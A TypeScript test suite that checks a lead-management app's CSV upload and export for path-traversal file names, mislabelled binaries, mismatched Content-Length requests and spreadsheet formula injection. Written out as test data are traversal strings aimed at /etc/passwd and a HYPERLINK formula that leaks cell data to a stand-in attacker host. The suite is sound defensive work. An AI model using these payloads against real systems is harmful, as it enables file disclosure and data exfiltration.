import { connect } from 'node:net';
import { afterAll, beforeAll, expect } from 'vitest';
import { withFewRows } from '#platform/testing/few-rows.ts';
import { type Bench, expectRefused, openBench, row } from './row.ts';

let bench: Bench;
beforeAll(async () => {
  bench = await openBench();
});
afterAll(() => bench.close());

const sheet = 'First Name,Email\nAnn,ann@example.com\n';
const upload = (body: string | Uint8Array<ArrayBuffer>, name = 'a.csv') =>
  bench.ada.raw(`/api/imports.upload?noun=leads&name=${encodeURIComponent(name)}`, { method: 'POST', body });
const importsKept = async () => Number((await bench.query('select count(*) as n from imports'))[0]?.['n']);

/** The name is a label; the file goes under an id of ours. */
const labels = async (...names: string[]) => {
  for (const name of names) {
    const { status, body } = await upload(sheet, name);
    expect([status, body.fileName]).toEqual([200, name]);
    expect(body.id).toMatch(/^[0-9a-f-]{36}$/);
    const { headers } = await bench.ada.raw(`/api/imports/${body.id}/refused.csv`);
    expect(headers.get('content-disposition') ?? '').not.toContain(name);
  }
};
const nothingKept = async (...bodies: (string | Uint8Array<ArrayBuffer>)[]) => {
  const before = await importsKept();
  for (const body of bodies) expectRefused(await upload(body), [400, 413, 415]);
  expect(await importsKept()).toBe(before);
};

row('FIL-01', () => labels('../../../etc/passwd', '..\\..\\x', '%2e%2e%2f', '....//'));
row('FIL-02', () => labels('/etc/passwd', 'C:\\x', '\\\\host\\share'));
row('FIL-03', async () => {
  const before = await importsKept();
  expectRefused(await upload(sheet, 'a.csv\u0000.html'));
  expect(await importsKept()).toBe(before);
});
row('FIL-05', () =>
  nothingKept('%PDF-1.7\n\u0000\u0001\u0002\u0003binary', 'PK\u0003\u0004rest of a workbook'),
);
row('FIL-13', () => nothingKept('', '\ufeff'));

/** An upload that says one length and sends another; answers the status. */
const lying = (length: number, body: string): Promise<number> =>
  new Promise((settle) => {
    const { port } = new URL(bench.server.url);
    const socket = connect(Number(port), '127.0.0.1', () => {
      const head = [
        'POST /api/imports.upload?noun=leads&name=a.csv HTTP/1.1',
        'Host: 127.0.0.1',
        `Content-Length: ${length}`,
        `Cookie: washboard_session=${bench.ada.token}`,
      ];
      socket.write(`${head.join('\r\n')}\r\n\r\n${body}`);
      setTimeout(() => socket.destroy(), 600);
    });
    let answer = '';
    socket.on('data', (chunk) => {
      answer += chunk;
    });
    socket.once('error', () => undefined).once('close', () => settle(Number(answer.slice(9, 12))));
  });

row('FIL-14', async () => {
  const before = await importsKept();
  // What comes behind the announced bytes is no part of the file, and no request either.
  await lying(10, `${sheet}${sheet}`);
  const kept = await bench.query('select "rows" from imports order by id desc limit 1');
  expect(kept.every(({ rows }) => Number(rows) <= 1)).toBe(true);
  expect((await importsKept()) - before).toBeLessThanOrEqual(1);
});
row('FIL-15', async () => {
  const before = await importsKept();
  expect(await lying(1000, sheet)).toBe(0);
  expect(await importsKept()).toBe(before);
});
row('FIL-18', () => labels('CON', 'NUL', 'aux.txt', ' .pdf', 'name.'));

row('CSV-03', async () => {
  const cells = ['\u200d=1', '＝1', '\u200b\u2060+2', '＠x'];
  for (const company of cells) await bench.lead({ company });
  const { text } = await bench.ada.raw('/api/export/leads.csv');
  for (const cell of cells) expect(text).toContain(`'${cell}`);
});
row('CSV-04', async () => {
  const cells = ['a"b', 'a,b', 'a\nb', "'quoted", '-x', '@y'];
  const made = await Promise.all(cells.map((company) => bench.lead({ company })));
  const { text } = await bench.ada.raw('/api/export/leads.csv');
  expect(text).toContain('"a""b"');
  expect(text).toContain('"a,b"');
  expect(text).toContain('"a\nb"');
  expect(text).toContain("'-x");
  // Back in again the same fields are found: nothing is new.
  const { body } = await upload(text);
  const checked = await bench.ada.call('imports.check', { id: body.id });
  expect(checked.body.columns).toEqual(body.columns);
  expect(checked.status).toBe(200);
  expect(made).toHaveLength(cells.length);
});
row('CSV-05', async () => {
  const { body } = await upload('First Name,Email,Number of Units\nAnn,neg@example.com,-5\n');
  const { status, text } = await bench.ada.call('imports.check', { id: body.id });
  expect(status).toBe(200);
  // No lead has a negative number of units: shown, never bent into 5.
  expect(text).toContain('-5');
});
row('CSV-06', async () => {
  const before = process.memoryUsage().rss;
  // Fewer than may be are kept on the way, since each costs a write; as many are read.
  const { status, body } = await withFewRows(2_000, () => upload(`First Name\n${'x\n'.repeat(1_000_000)}`));
  expect([status, body.error.code]).toEqual([400, 'IMPORT_TOO_MANY_ROWS']);
  expect(process.memoryUsage().rss - before).toBeLessThan(400_000_000);
});
row('CSV-07', async () => {
  const text = 'First Name,Email\nZo\u00eb M\u00fcller,zoe@example.com\n';
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const files = [Buffer.from(`\ufeff${text}`), utf16, Buffer.from(text, 'latin1')];
  for (const file of files) {
    const { body } = await upload(new Uint8Array(file));
    expect(body.columns).toEqual(['First Name', 'Email']);
    expect(body.samples[0]).toEqual(['Zo\u00eb M\u00fcller']);
  }
});
row('CSV-08', async () => {
  const { body } = await upload(
    'First Name,Email,role,isAdmin,convertedToClientId\nAnn,r@example.com,developer,true,x\n',
  );
  const { body: checked } = await bench.ada.call('imports.check', { id: body.id });
  expect(checked.ignored.map(({ column }: { column: string }) => column)).toEqual([
    'role',
    'isAdmin',
    'convertedToClientId',
  ]);
});
row('CSV-09', async () => {
  await bench.lead({ email: 'there@example.com' });
  const { body } = await upload(
    'First Name,Email\nA,there@example.com\nB,new1@example.com\nC,NEW1@example.com\n',
  );
  const { body: checked } = await bench.ada.call('imports.check', { id: body.id });
  expect(checked.counts).toEqual({ created: 1, updated: 0, duplicate: 2, refused: 0 });
});
row('CSV-10', async () => {
  const wide = Array.from({ length: 5_000 }, (_, at) => `c${at}`).join(',');
  await nothingKept(`${wide}\n${wide}\n`);
  const { body } = await upload('First Name,Email\nAnn,ok@example.com\n"open,x@example.com\n');
  const { body: checked } = await bench.ada.call('imports.check', { id: body.id });
  expect(checked.counts.refused).toBe(1);
  expect(checked.look.find(({ outcome }: { outcome: string }) => outcome === 'refused').line).toBe(3);
});
row('CSV-01', async () => {
  const company = '=HYPERLINK("http://evil.example?"&A2,"x")';
  await bench.lead({ company });
  const { text } = await bench.ada.raw('/api/export/leads.csv');
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example?""&A2,""x"")"`);
});
